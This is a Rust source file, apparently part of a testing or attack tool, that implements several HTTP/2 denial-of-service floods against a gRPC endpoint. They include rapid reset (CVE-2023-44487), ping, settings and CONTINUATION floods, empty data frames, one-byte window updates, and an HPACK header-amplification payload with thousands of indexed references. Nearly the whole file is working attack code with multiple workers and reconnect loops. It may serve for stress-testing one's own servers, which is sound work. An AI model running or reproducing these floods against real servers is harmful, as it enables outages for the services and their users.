//! Floods of HTTP/2: frames that cost little to send, and the server something to take.

use std::io;
use std::sync::Arc;

use crate::attack::Attack;
use crate::http2::{self, FrameWriter, WINDOW_USUAL, flag, frame, kind, literal};
use crate::tally::Tally;
use crate::target::{ATTACKER, Target};

/// Frames that are written at once.
const CHUNK: usize = 100;
/// How often a worker connects again after it was thrown out.
const CONNECTIONS: usize = 20;
const PATH: &str = "/bakufu.play.v1.MatchService/ListGames";
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// What a flood is made of.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Flood {
    /// Calls that are taken back as soon as they are made (CVE-2023-44487).
    Resets,
    /// Questions whose answers are never read (CVE-2019-9512).
    Pings,
    /// Settings that have to be acknowledged (CVE-2019-9515).
    Settings,
    /// Parts of a body with nothing in them (CVE-2019-9518).
    EmptyParts,
    /// Headers that go on for ever (CVE-2024-27316).
    Continuations,
    /// Headers that are a byte each on the wire, and kilobytes when they are read.
    SwollenHeaders,
    /// Room for answers, in steps of one byte.
    WindowUpdates,
}

/// Some workers, of whom each sends so many frames.
pub(crate) fn flood(target: Target, flood: Flood, workers: usize, frames: usize) -> Attack {
    Attack::by(workers, move |_, tally| async move {
        let mut left = frames;
        for _ in 0..CONNECTIONS {
            if left == 0 {
                break;
            }
            let Ok((reader, mut writer)) = http2::open(target, ATTACKER, WINDOW_USUAL).await else {
                tally.note("refused");
                continue;
            };
            tally.note("opened");
            let notes = Arc::clone(&tally);
            // Whoever never reads pings can't be told goodbye either.
            let reading = match flood {
                Flood::Pings | Flood::Settings => None,
                _ => Some(tokio::spawn(async move { reader.note_all(&notes).await })),
            };
            let sent = flood.send(target, &mut writer, &mut left).await;
            tally.note(if sent.is_ok() { "flooded" } else { "thrown out" });
            drop(writer);
            if let Some(reading) = reading {
                reading.abort();
            }
        }
        report(&tally, frames - left);
    })
}

/// How far the worker got, in thousands of frames.
fn report(tally: &Tally, sent: usize) {
    const THOUSAND: usize = 1_000;
    for _ in 0..sent / THOUSAND {
        tally.note("thousand frames");
    }
}

impl Flood {
    /// Sends frames until there are none left, or the server has had enough.
    async fn send(
        self,
        target: Target,
        writer: &mut FrameWriter,
        left: &mut usize,
    ) -> io::Result<()> {
        let headers = http2::grpc_headers(target, PATH);
        let stream = writer.next_stream();
        let begin = match self {
            Self::Continuations => frame(kind::HEADERS, 0, stream, &headers),
            Self::EmptyParts => frame(kind::HEADERS, flag::END_HEADERS, stream, &headers),
            _ => Vec::new(),
        };
        writer.send(&begin).await?;
        while *left > 0 {
            let frames: Vec<u8> =
                (0..CHUNK).flat_map(|_| self.frames(writer, stream, &headers)).collect();
            writer.send(&frames).await?;
            *left = left.saturating_sub(CHUNK);
        }
        Ok(())
    }

    fn frames(self, writer: &mut FrameWriter, stream: u32, headers: &[u8]) -> Vec<u8> {
        match self {
            Self::Resets => {
                let stream = writer.next_stream();
                let call = frame(kind::HEADERS, flag::END_HEADERS, stream, headers);
                [call, frame(kind::RST_STREAM, 0, stream, &CANCEL)].concat()
            }
            Self::Pings => frame(kind::PING, 0, 0, &[0; 8]),
            Self::Settings => frame(kind::SETTINGS, 0, 0, &[]),
            Self::EmptyParts => frame(kind::DATA, 0, stream, &[]),
            Self::Continuations => frame(kind::CONTINUATION, 0, stream, &literal("x", "y")),
            Self::SwollenHeaders => {
                let stream = writer.next_stream();
                let swollen = [headers, &swollen()].concat();
                frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &swollen)
            }
            Self::WindowUpdates => frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        }
    }
}

/// A long header that the server is to remember, and references to it: 62 is what was
/// remembered last (RFC 7541, 6.1).
fn swollen() -> Vec<u8> {
    const REFERENCES: usize = 8_000;
    const LATEST: u8 = 0x80 | 62;
    const REMEMBER: u8 = 0x40;
    let mut swollen = literal("x", &"y".repeat(4_000));
    swollen[0] = REMEMBER;
    swollen.extend([LATEST; REFERENCES]);
    swollen
}
